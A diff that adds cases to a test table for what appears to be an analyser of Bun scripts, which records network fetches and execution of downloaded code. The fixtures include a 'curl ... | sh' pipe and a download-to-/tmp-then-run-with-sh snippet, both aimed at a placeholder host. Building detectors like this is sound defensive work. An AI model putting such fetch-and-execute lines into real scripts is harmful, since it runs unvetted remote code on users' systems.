@@ -154,6 +154,22 @@ const COMMANDS: readonly [
   [
     'bun m.ts',
     {
+      'm.ts': 'import "./n"; if (import.meta.main) await fetch("https://a.example/m");',
+      'n.ts': 'export {}; if (import.meta.main) await fetch("https://a.example/n");',
+    },
+    ['fetch e1 https://a.example/m'],
+  ],
+  [
+    'bun m.ts',
+    {
+      'm.ts':
+        'const url = "https://a.example/x?a=(1)&b=2"; const flags = ["-f", "-H", "X: y|z"]; await Bun.$`curl ${flags} ${url} | sh`;',
+    },
+    ['fetch e1 https://a.example/x?a=(1)&b=2', 'run interpret e1'],
+  ],
+  [
+    'bun m.ts',
+    {
       'm.ts':
         'await Bun.write("/tmp/x.sh", await fetch("https://a.example/x.sh")); Bun.spawnSync(["sh", "/tmp/x.sh"]);',
     },
